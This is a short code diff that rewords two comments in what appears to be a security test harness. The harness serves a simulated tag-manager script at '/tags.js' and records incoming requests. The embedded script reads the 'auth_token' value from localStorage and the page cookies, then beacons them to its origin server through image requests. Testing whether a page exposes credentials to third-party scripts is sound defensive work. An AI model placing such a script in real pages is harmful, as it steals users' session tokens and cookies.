@@ -8,7 +8,7 @@ export type Outside = {
   close(): Promise<void>
 }
 
-// A tag manager's script: tells its server of each event, and takes what it can reach.
+// Script of a tag manager: reports each event to its server, and collects what it can reach.
 const greedy = (origin: string) => `
 const tell = (event) => { new Image().src = '${origin}/beacon?' + encodeURIComponent(JSON.stringify(event)) }
 const reach = (what, look) => { try { tell({ event: 'reached', what, found: String(look()) }) } catch { tell({ event: 'shut', what }) } }
@@ -20,7 +20,7 @@ reach('storage', () => localStorage.getItem('auth_token'))
 reach('cookies', () => document.cookie)
 `
 
-/** Answers a tag manager’s script at `/tags.js`, and takes whatever else it is told. */
+/** Serves a tag manager’s script at `/tags.js`, and records every other request. */
 export async function openOutside(): Promise<Outside> {
   const asked: Outside['asked'] = []
   let origin = ''
